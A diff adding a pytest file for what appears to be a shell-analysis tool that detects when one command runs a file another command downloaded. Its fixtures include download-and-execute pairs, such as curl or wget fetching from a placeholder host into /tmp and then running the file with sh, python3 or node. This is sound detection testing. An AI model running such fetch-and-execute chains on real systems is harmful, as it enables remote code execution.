@@ -1,0 +1,37 @@
+"""Commands that belong together by the name of a file."""
+
+import pytest
+
+from pratique.analysis.chains.downloads import fetched_by, plain_path, saved_downloads
+from pratique.analysis.languages.shell import parse_command
+
+ADDRESS = "https://far.invalid/run"
+
+
+@pytest.mark.parametrize(
+    ("saving", "starting"),
+    [
+        (f"curl -s {ADDRESS} -o /tmp/x", "sh /tmp/x"),
+        (f"curl -so /tmp/x {ADDRESS}", "/tmp/x"),
+        (f"wget -q -O cache.bin {ADDRESS}", "python3 -u ./cache.bin"),
+        (f"wget {ADDRESS}", "node run"),
+        (f"curl {ADDRESS} -o __dirname/lib/x.js", "node ./lib/x.js"),
+    ],
+)
+def test_what_a_command_saved_another_starts(saving: str, starting: str) -> None:
+    commands = (*parse_command(starting), *parse_command(saving))
+    saved = saved_downloads(commands)
+
+    assert commands[1] is fetched_by(commands[0], saved)
+    assert fetched_by(commands[1], saved) is None
+
+
+@pytest.mark.parametrize("starting", ["sh /tmp/y", "cat /tmp/x", "tar xf /tmp/x", "sh"])
+def test_other_commands_start_nothing_that_was_saved(starting: str) -> None:
+    saved = saved_downloads(parse_command(f"curl {ADDRESS} -o /tmp/x"))
+
+    assert [None] == [fetched_by(command, saved) for command in parse_command(starting)]
+
+
+def test_a_path_is_the_same_however_its_own_folder_is_written() -> None:
+    assert {"a/b"} == {plain_path(path) for path in ("a/b", "./a/b", "__dirname/a/b", "a\\b")}
